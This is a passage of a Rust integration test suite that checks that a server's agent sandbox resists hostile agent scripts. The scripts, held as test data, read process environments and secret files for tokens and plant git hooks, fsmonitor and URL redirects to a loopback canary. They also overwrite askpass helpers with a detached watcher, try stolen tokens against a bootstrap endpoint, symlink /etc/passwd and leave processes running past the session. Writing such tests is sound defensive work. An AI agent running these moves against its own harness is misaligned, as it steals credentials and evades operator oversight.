    assert_eq!(done["status"], "completed", "{done}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_agent_finds_no_job_token_in_its_workers_environment_or_workspace() {
    let app = app(TestBackend::Sqlite, 30).await;
    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
    let script = "echo env=$(tr '\\0' '\\n' < /proc/$PPID/environ | grep -c '^VIBERGLASS_JOB_TOKEN='); \
                  echo file=$(ls -a .. | grep -c token); echo changed >> README.md";
    let setup = setup(&app, &repo.url(), script, 600).await;
    let id = run(&app, &setup, "execution").await;
    let done = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(60)).await;
    assert_eq!(done["status"], "completed", "{done}");
    let events = app.get(&format!("/api/v1/jobs/{id}/events?limit=1000")).await.text().await.unwrap();
    assert!(events.contains("env=0"), "the worker's environment holds no token: {events}");
    assert!(events.contains("file=0"), "the token file is gone before the agent starts: {events}");
}

/// A TCP listener on loopback that counts every connection made to it: what
/// an agent's planted git configuration or hook would send credentials to.
struct Canary {
    port: u16,
    hits: std::sync::Arc<std::sync::atomic::AtomicUsize>,
}

impl Canary {
    async fn start() -> Canary {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let counted = hits.clone();
        tokio::spawn(async move {
            while let Ok((socket, _)) = listener.accept().await {
                counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                drop(socket);
            }
        });
        Canary { port, hits }
    }

    fn hits(&self) -> usize {
        self.hits.load(std::sync::atomic::Ordering::SeqCst)
    }
}

fn bwrap_installed() -> bool {
    let installed = std::process::Command::new("bwrap").arg("--version").output().is_ok_and(|o| o.status.success());
    assert!(
        installed || std::env::var("CI").is_err(),
        "bubblewrap must be installed under CI (scripts/test installs it)"
    );
    installed
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sandboxed_agent_cannot_read_the_servers_files_other_workspaces_or_its_worker() {
    if !bwrap_installed() {
        return eprintln!("note: bubblewrap is not installed; skipping the sandbox escape test");
    }
    let app = app(TestBackend::Sqlite, 60).await;
    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
    // A canary in the real home of the user running the server.
    let home = std::env::var("HOME").unwrap_or_else(|_| "/root".into());
    let canary = std::path::Path::new(&home).join(format!(".viberglass-canary-{}", std::process::id()));
    std::fs::write(&canary, "CANARY").unwrap();
    let database = app.data_dir.join("viberglass.db");
    assert!(database.exists(), "the test server's SQLite database is in its data directory");
    let workspaces = app.data_dir.join("workspaces");
    // Another job, still running, with something of its own in its workspace.
    let setup = setup(&app, &repo.url(), "echo other-jobs-secret > secret.txt; sleep 20", 600).await;
    let other = run(&app, &setup, "execution").await;
    wait_for_progress(&app, &other, "running the agent").await;
    let script = format!(
        "for f in '{db}' '{canary}' '{data}/secrets.key' /proc/1/environ; do \
           if cat \"$f\" 2>/dev/null | grep -a -q -e CANARY -e SQLite -e VIBERGLASS_SERVER_URL; then echo \"LEAK:$f\"; fi; done; \
         ls '{ws}' 2>/dev/null | grep -q '{other}' && echo LEAK:workspace; \
         cat '{ws}/{other}/repo/secret.txt' 2>/dev/null && echo LEAK:other-secret; \
         for p in /proc/[0-9]*; do grep -a -q -e VIBERGLASS_SERVER_URL -e VIBERGLASS_JOB_TOKEN -e VIBERGLASS_WORKSPACE \"$p/environ\" 2>/dev/null && echo \"LEAK:environ:$p\"; done; \
         echo checked >> README.md",
        db = database.display(),
        canary = canary.display(),
        data = app.data_dir.display(),
        ws = workspaces.display(),
    );
    app.patch_json("/api/v1/clankers/scripted", &json!({"agent_settings": {"command": ["sh", "-c", script]}})).await;
    let probe = run(&app, &setup, "execution").await;
    let done = wait_for(&app, &probe, &["completed", "failed"], Duration::from_secs(60)).await;
    let _ = std::fs::remove_file(&canary);
    assert_eq!(done["status"], "completed", "{done}");
    let events = app.get(&format!("/api/v1/jobs/{probe}/events?limit=1000")).await.text().await.unwrap();
    assert!(!events.contains("LEAK"), "the agent reached something it must not: {events}");
    assert!(!events.contains("other-jobs-secret"), "{events}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn git_after_the_agent_ignores_the_hooks_fsmonitor_and_redirects_it_planted() {
    let app = app(TestBackend::Sqlite, 60).await;
    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
    let canary = Canary::start().await;
    let port = canary.port;
    let url = repo.url();
    let script = format!(
        "printf '#!/bin/sh\\ngit ls-remote http://127.0.0.1:{port}/hook >/dev/null 2>&1\\n' > .git/hooks/pre-push; \
         chmod +x .git/hooks/pre-push; cp .git/hooks/pre-push .git/hooks/pre-commit; \
         git config core.hooksPath .git/hooks; \
         git config core.fsmonitor 'git ls-remote http://127.0.0.1:{port}/fsmonitor; true'; \
         git config url.http://127.0.0.1:{port}/.insteadOf '{url}'; \
         git remote set-url origin http://127.0.0.1:{port}/origin; \
         echo changed >> README.md"
    );
    let setup = setup(&app, &url, &script, 600).await;
    let id = run(&app, &setup, "execution").await;
    let done = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(60)).await;
    assert_eq!(done["status"], "completed", "{done}");
    assert_eq!(canary.hits(), 0, "nothing the agent planted ran or received the push");
    // The push went where the project says.
    let branch = done["branch"].as_str().unwrap();
    let heads = repo.git(&["branch", "--list", branch]);
    assert!(heads.contains(branch), "pushed to the project's repository: {heads}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn files_the_agent_links_out_of_the_checkout_are_refused() {
    let app = app(TestBackend::Sqlite, 60).await;
    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
    let setup = setup(&app, &repo.url(), "ln -s /etc/passwd RESEARCH.md", 600).await;
    let id = run(&app, &setup, "research").await;
    let done = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(60)).await;
    assert_eq!(done["status"], "failed", "{done}");
    assert_eq!(done["failure"]["code"], "document_refused", "{done}");
    assert!(done["status_message"].as_str().unwrap().contains("link"), "{done}");
    let document = app.get(&format!("/api/v1/tickets/{}/documents/research", setup.ticket)).await;
    assert_eq!(document.status(), 404, "nothing of /etc/passwd became the document");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn git_after_the_agent_never_uses_a_repository_the_agent_built_around_the_checkout() {
    let app = app(TestBackend::Sqlite, 60).await;
    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
    let canary = Canary::start().await;
    let (port, url) = (canary.port, repo.url());
    // Break the real .git so that git, left to look, would take the checkout itself for a bare repository.
    let script = format!(
        "rm -f .git/HEAD; mkdir -p objects refs/heads; echo 'ref: refs/heads/main' > HEAD; \
         printf '[core]\\n\\tbare = true\\n[url \"http://127.0.0.1:{port}/\"]\\n\\tinsteadOf = {url}\\n' > config; \
         echo changed >> README.md"
    );
    let setup = setup(&app, &url, &script, 600).await;
    let id = run(&app, &setup, "execution").await;
    let done = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(60)).await;
    assert_eq!(canary.hits(), 0, "the agent's repository was never used: {done}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_cannot_replace_the_askpass_helper_or_write_beside_its_checkout() {
    if !bwrap_installed() {
        return eprintln!("note: bubblewrap is not installed; skipping the askpass test");
    }
    let app = app(TestBackend::Sqlite, 60).await;
    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
    let canary = Canary::start().await;
    let port = canary.port;
    // A planted helper beside the checkout, and a watcher, detached from the
    // agent's session, that overwrites every askpass helper it can find.
    let script = format!(
        "evil='#!/bin/sh\ngit ls-remote http://127.0.0.1:{port}/askpass >/dev/null 2>&1; echo x\n'; \
         printf \"$evil\" > ../.askpass-planted 2>/dev/null && echo WROTE:workspace; \
         mkdir -p ../.askpass-0000000000000000 2>/dev/null && echo WROTE:helper-dir; \
         setsid sh -c 'while :; do for f in $(find .. /tmp -name \".askpass*\" 2>/dev/null); do \
           printf \"%s\" \"$0\" > \"$f/askpass\" 2>/dev/null; printf \"%s\" \"$0\" > \"$f\" 2>/dev/null; done; sleep 0.05; done' \"$evil\" \
           </dev/null >/dev/null 2>&1 & \
         echo changed >> README.md"
    );
    let setup = setup(&app, &repo.url(), &script, 600).await;
    let id = run(&app, &setup, "execution").await;
    let done = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(60)).await;
    assert_eq!(done["status"], "completed", "{done}");
    let events = app.get(&format!("/api/v1/jobs/{id}/events?limit=1000")).await.text().await.unwrap();
    assert!(!events.contains("WROTE:"), "the workspace around the checkout is read-only to the agent: {events}");
    assert_eq!(canary.hits(), 0, "no askpass but the worker's ran");
    let branch = done["branch"].as_str().unwrap();
    assert!(repo.git(&["branch", "--list", branch]).contains(branch), "the push used the worker's own credential path");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_cannot_bootstrap_its_job_again() {
    let app = app(TestBackend::Sqlite, 60).await;
    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
    // Everything token-like the agent can find (its environment, its
    // worker's, files around it) is tried against the bootstrap endpoint.
    let script = format!(
        "job=$(basename \"$(dirname \"$PWD\")\"); \
         for t in $( (env; cat /proc/$PPID/environ /proc/1/environ 2>/dev/null | tr '\\0' '\\n'; \
                      cat ../.viberglass-token ../home/* 2>/dev/null) | grep -oE '[A-Za-z0-9_-]{{20,}}' | sort -u); do \
           code=$(curl -s -o /dev/null -w '%{{http_code}}' -H \"authorization: Bearer $t\" \
                  {server}/api/worker/v1/jobs/$job/bootstrap); \
           [ \"$code\" = 200 ] && echo LEAK:bootstrap; \
         done; echo tried; echo changed >> README.md",
        server = app.base_url
    );
    let setup = setup(&app, &repo.url(), &script, 600).await;
    let id = run(&app, &setup, "execution").await;
    let done = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(60)).await;
    assert_eq!(done["status"], "completed", "{done}");
    let events = app.get(&format!("/api/v1/jobs/{id}/events?limit=1000")).await.text().await.unwrap();
    assert!(events.contains("tried"), "{events}");
    assert!(!events.contains("LEAK"), "the agent got the job's secrets: {events}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_program_under_tmp_is_bound_into_the_sandbox_and_a_missing_one_fails_start() {
    let app = app(TestBackend::Sqlite, 30).await;
    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
    let dir = tempfile::Builder::new().prefix("viberglass-agent-").tempdir_in("/tmp").unwrap();
    let agent = dir.path().join("agent.sh");
    std::fs::write(&agent, "#!/bin/sh\necho from-tmp-agent\necho changed >> README.md\n").unwrap();
    std::fs::set_permissions(&agent, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    app.create_project(json!({"name": "Shop", "repository_url": repo.url(), "planning_needs_approval": false})).await;
    let missing = app
        .post_json(
            "/api/v1/clankers",
            &json!({"shared": true, "name": "Missing", "agent": "command",
                    "agent_settings": {"command": [dir.path().join("nope.sh")]}}),
        )
        .await;
    assert_eq!(missing.status(), 201);
    let started: Value = app.post_json("/api/v1/clankers/missing/start", &json!({})).await.json().await.unwrap();
    assert_eq!(started["status"], "failed", "{started}");
    let message = started["status_message"].as_str().unwrap();
    assert!(message.contains("nope.sh") && message.contains("VIBERGLASS_SANDBOX_PATHS"), "{message}");

    let created = app
        .post_json(
            "/api/v1/clankers",
            &json!({"shared": true, "name": "Scripted", "agent": "command", "agent_settings": {"command": [agent]}}),
        )
        .await;
    assert_eq!(created.status(), 201);
    let started: Value = app.post_json("/api/v1/clankers/scripted/start", &json!({})).await.json().await.unwrap();
    assert_eq!(started["status"], "active", "{started}");
    let ticket = app.create_ticket("shop", json!({"title": "Fix the readme"})).await;
    let setup = Setup { ticket: ticket["id"].as_str().unwrap().to_owned() };
    let id = run(&app, &setup, "execution").await;
    let done = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(60)).await;
    assert_eq!(done["status"], "completed", "{done}");
    let events = app.get(&format!("/api/v1/jobs/{id}/events?limit=1000")).await.text().await.unwrap();
    assert!(events.contains("from-tmp-agent"), "{events}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_a_sandbox_what_an_agent_detaches_is_stopped_when_it_exits() {
    let app = fast(TestBackend::Sqlite)
        .env("VIBERGLASS_SANDBOX", "none")
        .env("VIBERGLASS_HEARTBEAT_GRACE_SECS", "30")
        .spawn()
        .await;
    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
    let dir = tempfile::tempdir().unwrap();
    let marker = dir.path().join("outlived");
    let script = format!(
        "setsid sh -c 'sleep 3; echo still-here > {marker}' </dev/null >/dev/null 2>&1 & \
         echo changed >> README.md",
        marker = marker.display()
    );
    let setup = setup(&app, &repo.url(), &script, 600).await;
    let id = run(&app, &setup, "execution").await;
    let done = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(60)).await;
    assert_eq!(done["status"], "completed", "{done}");
    tokio::time::sleep(Duration::from_secs(5)).await;
    assert!(!marker.exists(), "a process the agent detached with setsid outlived its run");
    let events = app.get(&format!("/api/v1/jobs/{id}/events?limit=1000")).await.text().await.unwrap();
    assert!(events.contains("process(es) the agent left running"), "{events}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_printing_invalid_utf8_is_read_to_its_end() {
    let app = app(TestBackend::Sqlite, 60).await;
    let repo = ServedRepo::with_files(&[("README.md", "x")]).await;
    // Past the invalid bytes comes more than a pipe holds: a reader that stopped would stall the agent.
    let script = "printf 'bad \\377\\376 bytes\\n'; head -c 300000 /dev/zero | tr '\\0' 'x'; echo; \
                  echo after-the-flood; echo changed >> README.md";
    let setup = setup(&app, &repo.url(), script, 600).await;
    let id = run(&app, &setup, "execution").await;
    let done = wait_for(&app, &id, &["completed", "failed"], Duration::from_secs(60)).await;
    assert_eq!(done["status"], "completed", "{done}");
    let events = app.get(&format!("/api/v1/jobs/{id}/events?limit=1000")).await.text().await.unwrap();
    assert!(
        events.contains("after-the-flood") && events.contains("bad \u{fffd}"),
        "{}",
        &events[..events.len().min(2000)]
    );
}
